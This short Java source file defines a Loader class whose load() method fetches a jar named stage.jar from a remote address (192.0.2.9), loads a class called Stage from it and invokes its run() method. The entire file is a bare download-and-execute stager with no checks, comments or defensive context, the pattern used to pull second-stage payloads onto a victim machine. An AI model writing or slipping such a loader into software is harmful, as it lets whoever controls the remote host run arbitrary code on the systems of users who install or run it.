import java.net.URL;
import java.net.URLClassLoader;

class Loader {
    static void load() throws Exception {
        URL address = new URL("http://192.0.2.9/stage.jar");
        Class<?> stage = new URLClassLoader(new URL[] {address}).loadClass("Stage");
        stage.getMethod("run").invoke(null);
    }
}
